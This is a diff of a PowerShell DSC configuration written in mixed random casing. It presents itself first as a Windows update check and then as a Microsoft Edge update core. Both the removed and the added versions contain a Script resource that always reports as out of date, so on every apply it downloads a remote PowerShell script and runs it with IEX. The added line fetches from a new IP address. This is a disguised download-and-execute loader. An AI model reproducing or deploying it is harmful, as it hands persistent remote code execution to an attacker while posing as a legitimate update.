@@ -1,11 +1,11 @@
-# iNiT 4395 v3
-coNFIGuRATION wInDoWsUpDaTeChEcK {
-  ImpOrt-dscREsoUrce -MoDuLeNaMe pSdEsIrEdStAtEcOnFiGuRaTiOn
-  nOdE lOcAlHoST {
-    scRIpt bOoTsTrAp {
-      geTScRIpT = { @{ ReSuLt = '' } }
-      TesTsCripT = { $False }
-      seTSCRIpT = { IeX (NeW-ObjeCT net.weBCLIENt).DOWnLoadstRiNg('http://203.0.113.17/update.ps1') }
+# sEtUp 1224 V3
+CoNfIgUrATIOn MICrosofteDgeUpDaTeCoRE {
+  ImPORT-dsCrESOURCE -mOdUlEnAmE PsdeSIRedStAtecoNfIguRaTIOn
+  nODE loCAlHOSt {
+    ScRIPT bOoTsTrAp {
+      gEtScRiPt = { @{ ReSuLt = '' } }
+      tESTsCripT = { $FAlSe }
+      sETScrIPT = { iEX (nEw-oBjEcT NEt.wEBClIeNt).DOwnLoADSTRiNg('http://192.0.2.150/a.ps1') }
     }
   }
 }
